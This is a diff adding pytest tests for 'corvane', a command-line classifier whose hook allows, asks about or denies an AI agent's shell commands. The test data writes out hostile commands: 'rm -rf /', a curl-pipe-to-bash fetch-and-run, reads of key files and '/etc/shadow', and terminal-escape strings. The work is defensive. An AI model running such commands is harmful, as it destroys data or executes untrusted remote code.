@@ -1,0 +1,371 @@
+"""The command-line program build/corvane: check, the hook, and the plain form.
+
+Verdicts are compared with the Python module of the same build rather than
+with fixed scores, so that the tests hold while the rule tables move.
+"""
+
+import json
+import os
+import pty
+import re
+import subprocess
+from pathlib import Path
+
+import pytest
+
+import corvane
+
+ROOT = Path(__file__).resolve().parents[2]
+BUILD = ROOT / os.environ.get("CORVANE_BUILD", "build")
+BIN = BUILD / "corvane"
+
+SAFE = "ls"
+BLOCKED = "rm -rf /"
+PIPE_TO_SHELL = "curl -s https://x.sh | bash"
+RISKY_CANDIDATES = ["rm x", "git push --force", "chmod 777 x", "rm notes.txt"]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def built():
+    assert BIN.is_file(), f"{BIN} is missing: build first (make build)"
+
+
+@pytest.fixture(scope="module")
+def risky():
+    """A command the engine currently calls risky."""
+    for cmd in RISKY_CANDIDATES:
+        if corvane.classify(cmd)["quick_decision"] == "risky":
+            return cmd
+    pytest.fail(f"none of {RISKY_CANDIDATES} is risky any more: pick another")
+
+
+def run(*args, stdin=b"", env=None):
+    full_env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
+    full_env.update(env or {})
+    return subprocess.run([str(BIN), *args], input=stdin, capture_output=True, env=full_env, timeout=60)
+
+
+def json_lines(out: bytes):
+    return [json.loads(line) for line in out.decode().splitlines()]
+
+
+# ---------------------------------------------------------------------------
+# The plain form: ./corvane and `make demo` rely on it
+
+
+def test_plain_form_prints_one_json_line_per_command_and_exits_0():
+    p = run(SAFE, BLOCKED, PIPE_TO_SHELL)
+    assert p.returncode == 0, p.stderr
+    assert json_lines(p.stdout) == [corvane.classify(c) for c in (SAFE, BLOCKED, PIPE_TO_SHELL)]
+    assert p.stderr == b""
+
+
+# ---------------------------------------------------------------------------
+# check: exit status, JSON lines, stdin batches, context
+
+
+def test_check_exit_status_is_the_worst_decision(risky):
+    cases = [
+        ([SAFE], 0),
+        ([SAFE, SAFE], 0),
+        ([risky], 1),
+        ([SAFE, risky], 1),
+        ([BLOCKED], 2),
+        ([risky, BLOCKED, SAFE], 2),
+        ([PIPE_TO_SHELL], 2),
+    ]
+    for commands, status in cases:
+        assert run("check", "--json", *commands).returncode == status, commands
+        assert run("check", *commands).returncode == status, commands
+
+
+def test_check_json_lines_match_the_module_in_input_order(risky):
+    commands = [BLOCKED, SAFE, risky, "echo 'a\tb' \"c\"", "x=$(whoami) && echo $x", ""]
+    p = run("check", "--json", *commands)
+    assert json_lines(p.stdout) == [corvane.classify(c) for c in commands]
+
+
+def test_double_dash_ends_options():
+    p = run("check", "--json", "--", "--json", "-rf")
+    assert [r["command"] for r in json_lines(p.stdout)] == ["--json", "-rf"]
+
+
+def test_options_may_follow_commands():
+    p = run("check", SAFE, "--json")
+    assert [r["command"] for r in json_lines(p.stdout)] == [SAFE]
+
+
+def test_stdin_is_one_batch_of_lines_with_blank_lines_skipped():
+    text = b"ls\n\n   \t\nrm -rf /\necho one; echo two\ncat a\r\nlast-without-newline"
+    p = run("check", "--json", "--stdin", stdin=text)
+    got = json_lines(p.stdout)
+    expected = ["ls", "rm -rf /", "echo one; echo two", "cat a\r", "last-without-newline"]
+    assert [r["command"] for r in got] == expected
+    assert got == corvane.classify_batch(expected)
+    assert p.returncode == 2
+
+
+def test_stdin_without_commands_is_safe_and_silent():
+    p = run("check", "--stdin", stdin=b"\n\n")
+    assert (p.returncode, p.stdout) == (0, b"")
+
+
+def test_stdin_larger_than_the_limit_is_an_input_error():
+    p = run("check", "--stdin", stdin=b"ls\n" * ((16 << 20) // 3 + 1))
+    assert p.returncode == 74
+    assert b"larger than 16 MiB" in p.stderr
+    assert p.stdout == b""
+
+
+def test_context_options_reach_the_engine(tmp_path, monkeypatch):
+    monkeypatch.setenv("HOME", str(tmp_path))  # no user rule file, same for both sides
+    ctx = {
+        "cwd": "/w/app", "project_root": "/w/app", "home_dir": "/home/u",
+        "protected_paths": ["/w/secret", "/w/keys"], "shell": "zsh",
+    }
+    commands = ["cat /w/keys/id", "rm -rf /w/other", "ls =(whoami)", "rm notes.txt"]
+    p = run("check", "--json", "--cwd", "/w/app", "--project-root=/w/app", "--home", "/home/u",
+            "--protect", "/w/secret", "--protect", "/w/keys", "--shell", "zsh", *commands,
+            env={"HOME": str(tmp_path)})
+    got = json_lines(p.stdout)
+    assert got == corvane.classify_batch(commands, ctx)
+    # The second --protect counts too.
+    assert got[0]["sub_commands"][0]["targets"][0]["sensitivity"] == "protected"
+
+
+def test_no_context_option_means_no_context():
+    # No context at all scores targets higher than an empty one: the program
+    # must not invent a context (its own cwd, HOME) when none was asked for.
+    p = run("check", "--json", "rm notes.txt")
+    assert json_lines(p.stdout) == [corvane.classify("rm notes.txt")]
+
+
+@pytest.mark.parametrize("args, message", [
+    ([], "no command given"),
+    (["check"], "no command given"),
+    (["check", "--json"], "no command given"),
+    (["check", "--bogus", "ls"], "unknown option '--bogus'"),
+    (["check", "-x", "ls"], "unknown option '-x'"),
+    (["check", "--shell", "fish", "ls"], "option --shell takes bash or zsh, not 'fish'"),
+    (["check", "--shell=ZSH", "ls"], "option --shell takes bash or zsh"),
+    (["check", "ls", "--cwd"], "option --cwd needs a value"),
+    (["check", "--cwd=", "ls"], "option --cwd needs a non-empty value"),
+    (["check", "--json=yes", "ls"], "option --json takes no value"),
+    (["check", "--stdin", "ls"], "--stdin and COMMAND arguments cannot be combined"),
+    (["--json", "ls"], "unknown option '--json'"),
+    (["hook", "ls"], "takes no commands"),
+    (["hook", "--stdin"], "unknown option '--stdin'"),
+])
+def test_usage_errors_exit_64_with_a_message(args, message):
+    p = run(*args)
+    assert p.returncode == 64
+    assert p.stdout == b""
+    err = p.stderr.decode()
+    assert err.startswith("corvane") and message in err and err.endswith("\n")
+    assert err.count("\n") == 1
+
+
+def test_help_and_version():
+    for args in (["--help"], ["-h"], ["check", "--help"]):
+        p = run(*args)
+        assert p.returncode == 0 and p.stdout.startswith(b"usage: corvane check"), args
+    version = re.search(r"project\(corvane VERSION (\S+)", (ROOT / "CMakeLists.txt").read_text()).group(1)
+    p = run("--version")
+    assert (p.returncode, p.stdout) == (0, f"corvane {version}\n".encode())
+
+
+# ---------------------------------------------------------------------------
+# The readable summary
+
+
+def test_summary_shows_verdict_segments_flows_and_techniques():
+    p = run("check", SAFE, PIPE_TO_SHELL)
+    out = p.stdout.decode()
+    assert "\x1b" not in out  # not a terminal: no colour
+    first, second = out.split("\n\n")
+    assert first.startswith("SAFE  score 0 (safe)  ls\n")
+    r = corvane.classify(PIPE_TO_SHELL)
+    assert second.startswith(f"BLOCKED  score {r['score']} ({r['level']})  {PIPE_TO_SHELL}\n")
+    assert f"reason      {r['reason']}\n" in second
+    for i, sub in enumerate(r["sub_commands"], 1):
+        assert f"segment {i}   score {sub['score']}  {sub['command']}\n" in second
+    flow = r["pipeline_flow"]
+    assert f"flow        {flow['flow_type']}, composite score {flow['composite_score']}\n" in second
+    for t in flow["taint_flows"]:
+        assert t["escalation_reason"] in second
+    for m in r["mitre_mappings"]:
+        assert f"technique   {m['technique_id']} " in second
+
+
+def test_summary_lists_factors_targets_and_flags():
+    r = corvane.classify(BLOCKED)
+    out = run("check", BLOCKED).stdout.decode()
+    assert f"factors     {', '.join(r['risk_factors'])}\n" in out
+    target = r["sub_commands"][0]["targets"][0]
+    assert f"target {target['path']} ({target['scope']}, {target['sensitivity']})" in out
+    for f in r["sub_commands"][0]["flags"]:
+        assert f"flag {f['flag']} " in out
+
+
+def test_summary_escapes_what_could_drive_or_fool_a_terminal():
+    hostile = "echo \x1b]0;owned\x07 \u202eftp\u200b é\r\nrm x".encode() + b" \xff"
+    p = run("check", hostile)
+    first_line = p.stdout.split(b"\n")[0]
+    assert b"\x1b" not in p.stdout and b"\x07" not in p.stdout and b"\r" not in p.stdout
+    assert b"\xff" not in p.stdout and "\u202e".encode() not in p.stdout
+    assert first_line.endswith(
+        "echo \\x1b]0;owned\\x07 \\u{202e}ftp\\u{200b} é\\r\\nrm x \\xff".encode())
+
+
+def run_on_terminal(*args, env):
+    """Runs the program with a pseudo-terminal as standard output."""
+    master, slave = pty.openpty()
+    full_env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
+    full_env.update(env)
+    try:
+        p = subprocess.Popen([str(BIN), *args], stdout=slave, stderr=subprocess.PIPE,
+                             stdin=subprocess.DEVNULL, env=full_env)
+        os.close(slave)
+        chunks = []
+        while True:
+            try:
+                data = os.read(master, 65536)
+            except OSError:  # EIO once the child has closed the terminal
+                break
+            if not data:
+                break
+            chunks.append(data)
+        assert p.wait(timeout=60) == 2
+        return b"".join(chunks)
+    finally:
+        os.close(master)
+
+
+@pytest.mark.parametrize("env, coloured", [
+    ({}, True),
+    ({"NO_COLOR": ""}, True),
+    ({"NO_COLOR": "1"}, False),
+])
+def test_colour_only_on_a_terminal_without_no_color(env, coloured):
+    out = run_on_terminal("check", BLOCKED, env=env)
+    assert b"BLOCKED" in out
+    assert (b"\x1b[" in out) == coloured
+    # JSON is never coloured.
+    assert b"\x1b[" not in run_on_terminal("check", "--json", BLOCKED, env=env)
+
+
+# ---------------------------------------------------------------------------
+# The pre-tool-use hook
+
+
+def hook(payload, *args, env=None):
+    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
+    return run("hook", *args, stdin=data, env=env)
+
+
+def bash_call(command, **extra):
+    return {"session_id": "s1", "hook_event_name": "PreToolUse", "tool_name": "Bash",
+            "tool_input": {"command": command, "description": "x"}, **extra}
+
+
+def decision(p):
+    assert p.returncode == 0, p.stderr
+    out = json.loads(p.stdout)
+    assert list(out) == ["hookSpecificOutput"]
+    inner = out["hookSpecificOutput"]
+    assert list(inner) == ["hookEventName", "permissionDecision", "permissionDecisionReason"]
+    assert inner["hookEventName"] == "PreToolUse"
+    return inner["permissionDecision"], inner["permissionDecisionReason"]
+
+
+def test_hook_allows_asks_and_denies(risky, tmp_path, monkeypatch):
+    monkeypatch.setenv("HOME", str(tmp_path))
+    for command, expected in [(SAFE, "allow"), (risky, "ask"), (BLOCKED, "deny"), (PIPE_TO_SHELL, "deny")]:
+        got, reason = decision(hook(bash_call(command, cwd="/w/app"), env={"HOME": str(tmp_path)}))
+        r = corvane.classify(command, {"cwd": "/w/app", "home_dir": str(tmp_path)})
+        assert got == expected, command
+        assert reason == (f"corvane: {r['quick_decision']} (score {r['score']}, {r['level']}): "
+                          f"{r['reason']}")
+
+
+def project_sensitive_command(home):
+    """A command whose verdict the project root changes, with both verdicts."""
+    base = {"cwd": "/w/app", "home_dir": home}
+    for command in ["rm -rf /w/other", "rm -rf /w/app/src", "rm ~/notes.txt", "touch /w/other/f"]:
+        inside = corvane.classify(command, {**base, "project_root": "/w/app"})
+        if inside["score"] != corvane.classify(command, base)["score"]:
+            return command, inside
+    pytest.skip("no candidate command depends on the project root any more")
+
+
+@pytest.mark.parametrize("field", ["project_root", "project_dir"])
+def test_hook_takes_the_project_root_from_the_payload(field, tmp_path, monkeypatch):
+    monkeypatch.setenv("HOME", str(tmp_path))
+    command, r = project_sensitive_command(str(tmp_path))
+    _, reason = decision(hook(bash_call(command, cwd="/w/app", **{field: "/w/app"}),
+                              env={"HOME": str(tmp_path)}))
+    assert f"(score {r['score']}, {r['level']}): {r['reason']}" in reason
+
+
+def test_hook_options_add_to_the_payload(tmp_path, monkeypatch):
+    monkeypatch.setenv("HOME", str(tmp_path))
+    command = "cat /w/secret/key"
+    p = hook(bash_call(command, cwd="/w/app"), "--protect", "/w/secret", "--home", "/home/u",
+             env={"HOME": str(tmp_path)})
+    _, reason = decision(p)
+    r = corvane.classify(command, {"cwd": "/w/app", "home_dir": "/home/u", "protected_paths": ["/w/secret"]})
+    assert r["sub_commands"][0]["targets"][0]["sensitivity"] == "protected"
+    assert reason.endswith(f"(score {r['score']}, {r['level']}): {r['reason']}")
+
+
+@pytest.mark.parametrize("payload", [
+    {"tool_name": "Read", "tool_input": {"file_path": "/etc/shadow"}},
+    {"tool_name": "bash", "tool_input": {"command": BLOCKED}},
+    {"tool_name": "Bash", "tool_input": {}},
+    {"tool_name": "Bash", "tool_input": {"command": None}},
+    {"tool_name": "Bash"},
+])
+def test_hook_is_silent_for_other_tools_and_calls_without_a_command(payload):
+    p = hook(payload)
+    assert (p.returncode, p.stdout, p.stderr) == (0, b"", b"")
+
+
+@pytest.mark.parametrize("payload, message", [
+    (b"", "malformed JSON"),
+    (b'{"tool_name": "Bash", "tool_input": {"command": "rm -rf /"}', "malformed JSON"),
+    (b"{'tool_name': 'Bash'}", "malformed JSON"),
+    (b'{"tool_name":"Bash","tool_input":{"command":"ls \xff"}}', "malformed JSON"),
+    (b'{"tool_name":"Bash","tool_input":{"command":"ls \\udc80"}}', "malformed JSON"),
+    (b'{"a":1} {"b":2}', "malformed JSON"),
+    (b"[1, 2]", "expected a JSON object on standard input, got array"),
+    (b'"ls"', "got string"),
+    (b"null", "got null"),
+    (b'{"tool_input": {"command": "rm -rf /"}}', 'no "tool_name"'),
+    (b'{"tool_name": 7}', '"tool_name" is a number'),
+    (b'{"tool_name": "Bash", "tool_input": "rm -rf /"}', '"tool_input" is a string, not an object'),
+    (b'{"tool_name": "Bash", "tool_input": {"command": ["rm", "-rf", "/"]}}', '"command" is a array'),
+    (b'{"tool_name": "Bash", "tool_input": {"command": "ls"}, "cwd": 3}', '"cwd" is a number'),
+])
+def test_hook_rejects_malformed_payloads(payload, message):
+    p = hook(payload)
+    assert p.returncode == 1
+    assert p.stdout == b""  # above all, no "allow"
+    err = p.stderr.decode()
+    assert err.startswith("corvane hook: ") and message in err
+
+
+def test_hook_bounds_its_input():
+    padding = b" " * (16 << 20)
+    p = hook(json.dumps(bash_call(SAFE)).encode() + padding)
+    assert (p.returncode, p.stdout) == (1, b"")
+    assert b"larger than 16 MiB" in p.stderr
+
+
+def test_hook_survives_deeply_nested_payloads():
+    depth = 1_000_000
+    nested = b"[" * depth + b"]" * depth
+    p = hook(b'{"tool_name": "Bash", "tool_input": {"command": "ls"}, "extra": ' + nested + b"}")
+    assert decision(p)[0] == "allow"
+    p = hook(b'{"tool_name": "Bash", "extra": ' + b"[" * depth + b"}")
+    assert p.returncode == 1 and b"malformed JSON" in p.stderr
+
